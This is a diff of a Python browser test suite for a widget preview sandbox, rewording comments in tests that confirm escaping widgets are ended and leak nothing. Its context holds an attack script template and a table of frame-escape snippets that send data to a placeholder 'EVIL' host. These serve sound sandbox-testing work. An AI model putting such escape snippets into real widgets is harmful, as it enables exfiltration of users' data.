@@ -17,7 +17,7 @@ from support.trials import publish_modules
 
 Scheme = Literal["light", "dark"]
 
-# Tries whatever a script could do to others, and shows what became of it.
+# Tries whatever a script could do to others, and shows the results.
 ATTACK = """
 const EVIL = "{evil}";
 const once = (target, good, bad) => new Promise((done) => {
@@ -86,7 +86,7 @@ export async function mount(element) {
 }
 """
 
-# Every way out of the frame that a script has; each would bring data along.
+# Every way for a script to send data out of the frame.
 ESCAPES = {
     "href": "location.href = EVIL",
     "own-host": "location.assign('/api/v1/widgets/search?q=secret')",
@@ -217,7 +217,7 @@ def test_a_widget_runs_at_every_size_in_light_and_dark_and_stops(
     page.on("pageerror", lambda error: complaints.append(str(error)))
     page.on("request", lambda request: asked.append(request.url))
     page.goto(f"{demo_service.url}/preview/home/weather/2.1.0")
-    assert page.locator("iframe").count() == 0  # Nothing runs before it is asked for.
+    assert page.locator("iframe").count() == 0  # Nothing runs before it is started.
     assert not any("/cdn/" in url for url in asked)
 
     page.get_by_role("button", name="Run the preview").click()
@@ -314,7 +314,7 @@ def test_a_widget_that_leaves_its_frame_is_ended_and_takes_nothing_along(
     sentence = "The widget tried to leave its frame, so it was ended."
     expect(status(page)).to_have_text(sentence)
     expect(page.locator("iframe")).to_have_count(0)
-    # The browser may have connected ahead of need, but it has asked for nothing.
+    # The browser may have preconnected, but has sent no request.
     assert b"".join(evil.heard) == b""
     assert page.url == f"{service.url}/preview/trial/escape-{way}/1.0.0"
 
@@ -324,7 +324,7 @@ def test_whatever_is_wrong_with_a_widget_is_said_calmly_and_the_page_goes_on(
     context: BrowserContext, service: Service, name: str
 ) -> None:
     page = opened(context, service, f"trial/{name}/1.0.0")
-    page.get_by_label("Dark").check(force=True)  # While it runs, the page can be used.
+    page.get_by_label("Dark").check(force=True)  # The page is usable while it runs.
     expect(status(page)).to_have_text(CALM[name], timeout=25_000)
     expect(page.locator("iframe")).to_have_count(0)
     expect(page.get_by_role("button", name="Run the preview")).to_be_visible()
